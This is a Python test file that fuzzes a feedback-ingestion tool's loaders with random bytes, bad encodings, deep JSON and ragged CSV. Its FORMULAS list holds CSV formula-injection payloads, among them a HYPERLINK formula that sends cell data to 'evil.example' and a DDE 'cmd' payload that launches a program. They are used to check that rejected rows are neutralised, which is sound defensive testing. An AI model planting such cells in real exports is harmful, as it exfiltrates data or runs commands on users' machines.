"""Bad input never crashes `pma ingest`: property-based tests over the loaders and ingestion, and the regressions the
generators found. Every failure is a ``UserError`` (one clear line, exit 1, never 2), and for every file that
loads, ``added + duplicates + rejected == read``.

Hypothesis generates random bytes, wrong encodings, ragged CSV, huge fields, deep JSON and formula-injection cells;
``tests/support/cases/fuzz.py`` holds the generators ``bench/hardening_fuzz.py`` also runs (with many more cases).
"""

from __future__ import annotations

import csv
import io
import pytest
from hypothesis import given, strategies as st

from retrieval.db import Database
from retrieval.errors import UserError
from retrieval.ingest import ingest_paths
from retrieval.loaders import load_file
from tests.support.cases.fuzz import check_ingest_cli, feedback_file, fuzz, write_case


EXTS = [".csv", ".tsv", ".json", ".jsonl", ".txt", ".xlsx", ".dat"]
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "=1+1"]
cell = st.one_of(
    st.text(max_size=40),
    st.sampled_from(FORMULAS),
    st.text(alphabet="离线地图闪退登录电池", min_size=1, max_size=12),
    st.just("x" * 25_000),
    st.sampled_from(["2026-09-03", "1693751000000", "yesterday", "", "  ", "5", "★★★", "n/a"]),
)
FUZZ = fuzz(60)


@FUZZ
@given(data=st.binary(max_size=2000), ext=st.sampled_from(EXTS))
def test_random_bytes_never_crash_the_loader(tmp_path_factory, data, ext):
    path = tmp_path_factory.mktemp("fuzz") / f"in{ext}"
    path.write_bytes(data)
    try:
        loaded = load_file(path)
    except UserError as err:
        assert "\n" not in str(err) and path.name in str(err)
        return
    assert all(r.row >= 1 for r in loaded.rows)


@FUZZ
@given(depth=st.integers(1, 5000), encoding=st.sampled_from(["utf-8", "utf-16", "gb18030", "cp1252", "latin-1"]))
def test_deep_json_and_wrong_encodings(tmp_path_factory, depth, encoding):
    folder = tmp_path_factory.mktemp("deep")
    nested = "[" * depth + '"x"' + "]" * depth
    (folder / "deep.json").write_text(nested)
    try:
        load_file(folder / "deep.json")
    except UserError:
        pass
    text = "text\nCafé crème brûlée – naïve 离线 ok\n"
    (folder / "enc.csv").write_bytes(text.encode(encoding, errors="replace"))
    try:
        loaded = load_file(folder / "enc.csv")
    except UserError:
        return
    assert len(loaded.rows) == 1


rows_strategy = st.lists(st.lists(cell, min_size=0, max_size=5), min_size=1, max_size=8)


@pytest.mark.slow
@fuzz(25)
@given(rows=rows_strategy, header=st.lists(st.sampled_from(["text", "date", "rating", "note", "id", ""]),
                                           min_size=1, max_size=5))
def test_ingest_accounts_for_every_row(db_settings, tmp_path_factory, rows, header):
    folder = tmp_path_factory.mktemp("csv")
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(header)
    writer.writerows(rows)
    path = folder / "fuzz.csv"
    path.write_text(buf.getvalue(), encoding="utf-8")
    with Database(db_settings).connect() as conn:
        before = conn.execute("SELECT count(*) FROM feedback").fetchone()[0]
    try:
        report = ingest_paths([path], db_settings).files[0]
    except UserError as err:
        assert "\n" not in str(err)
        with Database(db_settings).connect() as conn:
            assert conn.execute("SELECT count(*) FROM feedback").fetchone()[0] == before
        return
    assert report.added + report.duplicates + report.rejected == report.read
    with Database(db_settings).connect() as conn:
        assert conn.execute("SELECT count(*) FROM feedback").fetchone()[0] == before + report.added
    if report.rejects_path:
        with open(report.rejects_path, encoding="utf-8") as fh:
            for line in csv.reader(fh):
                assert not any(c.startswith(("=", "+", "@")) for c in line), line


# ---- regressions the generators found ---------------------------------------------------------------------------
@pytest.mark.parametrize("data", [b"\xff\xfetext\n", b"\xef\xbb\xbftext\n\xff\xfe\xfa\n", b"\xff\xfe\x00\xd8a\x00"],
                         ids=["utf16-odd-length", "utf8-bom-then-invalid", "utf16-lone-surrogate"])
def test_a_byte_order_mark_over_broken_bytes_is_a_user_error(tmp_path, data):
    path = write_case(tmp_path, "export.csv", data)
    with pytest.raises(UserError, match=r"export.csv: starts with a UTF-(8|16) byte-order mark but byte \d+"):
        load_file(path)


def test_values_never_carry_what_postgresql_cannot_store(tmp_path):
    json_path = write_case(tmp_path, "export.json", b'[{"text": "maps \\ud83d broken", "note": "a\\u0000b", '
                                                    b'"\\ud800key": {"deep": "x\\udfffy"}}]')
    csv_path = write_case(tmp_path, "export.csv", b"text,note\nlogin\x00 fails,o\x00k\n")
    values = load_file(json_path).rows[0].values | load_file(csv_path).rows[0].values
    assert values == {"text": "login fails", "note": "ok", "\ufffdkey.deep": "x\ufffdy"}


@pytest.mark.slow
def test_pma_ingest_exits_0_or_1_and_accounts_for_every_row(db_settings, capsys, monkeypatch, tmp_path_factory):
    from retrieval.db import Database
    from ui.cli import run

    monkeypatch.setenv("PMA_HOME", str(db_settings.home))
    monkeypatch.setenv("PMA_MODELS_CACHE", str(db_settings.models_cache))
    monkeypatch.setenv("PMA_DATABASE_URL", db_settings.retrieval.database_url.get_secret_value())
    db = Database(db_settings)

    def count_rows() -> int:
        with db.connect() as conn:
            return conn.execute("SELECT count(*) FROM feedback").fetchone()[0]

    outcomes = []

    @fuzz(12)
    @given(case=feedback_file())
    def generated_export(case):
        outcomes.append(check_ingest_cli(run, capsys, write_case(tmp_path_factory.mktemp("in"), *case), count_rows))
        assert outcomes[-1] in ("ok", "user_error"), outcomes[-1]

    generated_export()
    assert "ok" in outcomes and "user_error" in outcomes
